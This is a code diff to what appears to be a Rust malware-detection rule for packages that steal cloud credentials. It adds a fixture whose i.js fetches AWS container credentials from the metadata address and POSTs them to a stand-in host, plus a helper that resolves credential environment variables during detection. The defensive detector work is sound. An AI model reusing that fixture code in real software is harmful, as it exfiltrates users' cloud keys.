@@ -15,6 +15,22 @@ pub(super) static FINDING: Declaration = Declaration {
     references: &["CWE-506", "CWE-522", "T1552.005"],
     examples: &[
         Example {
+            name: "code asks for a container's keys by the variable that says where they are",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"fetch("http://169.254.170.2" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)
+  .then((r) => r.text())
+  .then((t) => fetch("https://a.invalid/", { method: "POST", body: t }));"#,
+                ),
+            ],
+        },
+        Example {
             name: "an import asks for the keys of the role",
             severity: Some(Severity::High),
             files: &[
@@ -51,6 +67,15 @@ const AT_MOST: ByTrigger = ByTrigger {
     asked: Severity::Low,
 };
 
+/// An address with what a container's variables stand for.
+fn spelled_out(url: &str) -> String {
+    url.replace("<env:AWS_CONTAINER_CREDENTIALS_RELATIVE_URI>", "/")
+        .replace(
+            "<env:AWS_CONTAINER_CREDENTIALS_FULL_URI>",
+            "http://169.254.170.2/",
+        )
+}
+
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
     for behaviour in context.behaviours {
         let Some(url) = behaviour.target.as_deref() else {
@@ -60,6 +85,8 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         if !is_request || !judge::is_unasked(behaviour.reach) {
             continue;
         }
+        let asked = spelled_out(url);
+        let url = asked.as_str();
         let class = host::host(url).and_then(|at| targets::host_class(&at, host::path(url)));
         if class.is_none_or(|class| !class.id.starts_with("host.metadata")) {
             continue;
